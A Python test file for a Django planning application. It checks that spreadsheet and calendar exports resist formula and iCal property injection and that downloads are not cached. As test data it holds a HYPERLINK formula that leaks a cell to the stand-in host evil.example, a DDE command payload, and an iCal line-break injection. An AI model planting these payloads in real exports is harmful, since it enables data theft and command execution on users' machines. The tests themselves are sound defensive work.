"""Exports that no spreadsheet or calendar program can be tricked by (issue 9, item 5)."""

import csv
import datetime
import io
import re
from http import HTTPStatus

import icalendar
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from followup.services import report_publish
from plans import excel
from plans.imports.plan import PlanPreview
from plans.imports.save import plan_import_save
from plans.models import Activity
from plans.views.calendar import activities_calendar

from ..factories import make_activity, make_plan, make_plan_tree, make_priority_area

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klick")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture
def formula_plan(agreement):
    make_priority_area(agreement, name="Trygga miljöer")
    plan, strategy = make_plan_tree(agreement, activities=0)
    for n, title in enumerate(FORMULAS, start=1):
        make_activity(
            strategy, title=title, description=f"=A{n}", places="-Öjebyn", contact_name="Kim"
        )
    return plan


def _sheet(data):
    return load_workbook(io.BytesIO(data)).active


def test_formula_titles_are_text_cells_in_the_xlsx_export(
    client_for, agreement, member, formula_plan
):
    response = client_for(member).get(
        reverse("plans:plan-export-xlsx", args=[agreement.pk, formula_plan.year])
    )
    sheet = _sheet(response.content)
    title_column = excel.HEADERS.index("Åtgärd (aktivitet)") + 1
    cells = [sheet.cell(row=r, column=title_column) for r in range(2, sheet.max_row + 1)]
    # Without lxml, XML turns a carriage return into a newline when the file is read; with lxml
    # (which pikepdf brings) it stays a carriage return. Either way it is text.
    values = sorted(c.value.replace("\r", "\n") for c in cells)
    assert values == sorted(f.replace("\r", "\n") for f in FORMULAS)
    assert all(c.data_type == "s" for c in cells)  # "f" would be a live formula
    assert all(c.quotePrefix for c in cells)
    description = sheet.cell(row=2, column=excel.HEADERS.index("Beskrivning") + 1)
    assert description.data_type == "s" and description.value.startswith("=A")


def test_formula_fields_are_quoted_in_the_csv_export(client_for, agreement, member, formula_plan):
    response = client_for(member).get(
        reverse("plans:plan-export-csv", args=[agreement.pk, formula_plan.year])
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    title = excel.HEADERS.index("Åtgärd (aktivitet)")
    assert sorted(row[title] for row in rows[1:]) == sorted("'" + f for f in FORMULAS)
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_formula_titles_round_trip_through_export_and_import(agreement, formula_plan):
    # "\t=1+1" and "\r=1+1" are the same activity once surrounding whitespace is stripped, and
    # the import refuses two rows naming the same activity: keep one of them.
    Activity.objects.filter(title="\r=1+1").delete()
    target = make_plan(agreement, 2025)
    preview = PlanPreview(plan=target, data=excel.to_xlsx(formula_plan))
    assert preview.errors == []
    plan_import_save(preview=preview)
    imported = set(Activity.objects.in_plan(target).values_list("title", flat=True))
    # The import strips surrounding whitespace, so a leading tab or CR does not survive.
    assert imported == {title.strip() for title in FORMULAS}
    assert set(Activity.objects.in_plan(target).values_list("places", flat=True)) == {"-Öjebyn"}


def test_formula_titles_round_trip_through_the_csv_export_too(agreement, formula_plan):
    Activity.objects.filter(title="\r=1+1").delete()
    target = make_plan(agreement, 2025)
    preview = PlanPreview(plan=target, data=excel.to_csv(formula_plan).encode("utf-8"))
    assert preview.errors == []
    plan_import_save(preview=preview)
    imported = set(Activity.objects.in_plan(target).values_list("title", flat=True))
    assert imported == {title.strip() for title in FORMULAS}


def test_an_apostrophe_added_by_the_csv_export_comes_off_on_import(agreement):
    from pitebra.spreadsheets import imported_text

    assert imported_text("'" + HYPERLINK) == HYPERLINK
    assert imported_text("'-Öjebyn") == "-Öjebyn"
    assert imported_text("'citat'") == "'citat'"  # an apostrophe the user typed stays


def test_a_vertical_tab_saved_before_it_was_refused_does_not_break_the_export(
    client_for, agreement, member
):
    plan, strategy = make_plan_tree(agreement, activities=0)
    activity = make_activity(strategy, title="Trygghetsvandring")
    Activity.objects.filter(pk=activity.pk).update(
        title="Trygghets\x0bvandring", description="Rad\x0cett\x01"
    )
    response = client_for(member).get(
        reverse("plans:plan-export-xlsx", args=[agreement.pk, plan.year])
    )
    assert response.status_code == HTTPStatus.OK
    sheet = _sheet(response.content)
    assert sheet.cell(row=2, column=excel.HEADERS.index("Åtgärd (aktivitet)") + 1).value == (
        "Trygghetsvandring"
    )
    assert sheet.cell(row=2, column=excel.HEADERS.index("Beskrivning") + 1).value == "Radett"


LINE_BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\u2028", "\u2029", "\x85"]


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_ical_has_one_property_per_line_whatever_the_title_holds(agreement, brk):
    plan, strategy = make_plan_tree(agreement, activities=0)
    activity = make_activity(strategy, title="Trygghetsvandring", start=datetime.date(2024, 10, 8))
    Activity.objects.filter(pk=activity.pk).update(
        title=f"Vandring{brk}ATTENDEE:mailto:evil@example.com{brk}X-INJECTED:1"
    )
    activities = Activity.objects.select_related("strategy__goal__plan__agreement")
    body = activities_calendar(activities, "pitebra.example")
    parsed = icalendar.Calendar.from_ical(body)
    events = parsed.walk("VEVENT")
    assert len(events) == 1
    event = events[0]
    assert "ATTENDEE" not in event and "X-INJECTED" not in event
    assert str(event["SUMMARY"]) == "Vandring ATTENDEE:mailto:evil@example.com X-INJECTED:1"
    # Every physical line (after unfolding) is one property: a NAME, then : or ;.
    text = body.decode().replace("\r\n ", "")
    lines = text.split("\r\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert line.split(":", 1)[0].split(";", 1)[0].replace("-", "").isalnum(), line
        for other in LINE_BREAKS:
            assert other not in line


def test_ical_escapes_commas_and_semicolons(agreement):
    plan, strategy = make_plan_tree(agreement, activities=0)
    make_activity(strategy, title="Vandring, Öjebyn; kväll", start=datetime.date(2024, 10, 8))
    body = activities_calendar(
        Activity.objects.select_related("strategy__goal__plan__agreement"), "x"
    ).decode()
    assert "SUMMARY:Vandring\\, Öjebyn\\; kväll" in body


def test_ical_folds_long_lines_at_75_octets_without_splitting_a_letter(agreement):
    """RFC 5545 3.1: a line longer than 75 octets is folded (CRLF and one space); a fold never
    falls inside a multibyte UTF-8 character (here the 75th octet is inside the "å" of "våra")."""
    title = (
        "Trygghetsvandring på Öjebyns torg och längs älven för våra föräldrar och "
        "fältassistenter – höstens kvällar i Piteå"
    )
    plan, strategy = make_plan_tree(agreement, activities=0)
    make_activity(strategy, title=title, start=datetime.date(2024, 10, 8))
    activities = Activity.objects.select_related("strategy__goal__plan__agreement")
    body = activities_calendar(activities, "pitebra.example")
    assert len(f"SUMMARY:{title}".encode()) > 75  # it needs folding
    lines = body.split(b"\r\n")
    assert lines[-1] == b""
    for line in lines[:-1]:
        assert len(line) <= 75, line
        line.decode("utf-8")  # each physical line is whole UTF-8: no letter cut in two
    assert any(line.startswith(b" ") for line in lines)  # folded, not cut
    unfolded = body.replace(b"\r\n ", b"").decode("utf-8")
    assert f"\r\nSUMMARY:{title}\r\n" in unfolded
    assert str(icalendar.Calendar.from_ical(body).walk("VEVENT")[0]["SUMMARY"]) == title


def _no_store(response):
    directives = {d.strip() for d in response["Cache-Control"].split(",")}
    return response.status_code == HTTPStatus.OK and {"private", "no-store"} <= directives


def test_every_download_is_private_and_not_stored(
    client, client_for, agreement, member, coordinator
):
    plan, strategy = make_plan_tree(agreement, activities=0)
    make_activity(strategy, title="Vandring", start=datetime.date(2024, 10, 8))
    logged_in = client_for(member)
    args = [agreement.pk, plan.year]
    assert _no_store(logged_in.get(reverse("plans:plan-export-xlsx", args=args)))
    assert _no_store(logged_in.get(reverse("plans:plan-export-csv", args=args)))
    assert _no_store(logged_in.get(reverse("followup:report-draft-pdf", args=args)))
    published = report_publish(agreement=agreement, year=2024, by=coordinator)
    assert _no_store(
        logged_in.get(
            reverse("followup:report-download", args=[agreement.pk, 2024, published.version])
        )
    )
    logged_in.post(reverse("calendar-reset"))
    page = logged_in.get(reverse("calendar")).content.decode()  # the link, shown once
    token = re.search(r"/calendar/([\w-]+)\.ics", page).group(1)
    logged_in.logout()
    assert _no_store(client.get(f"/calendar/{token}.ics"))
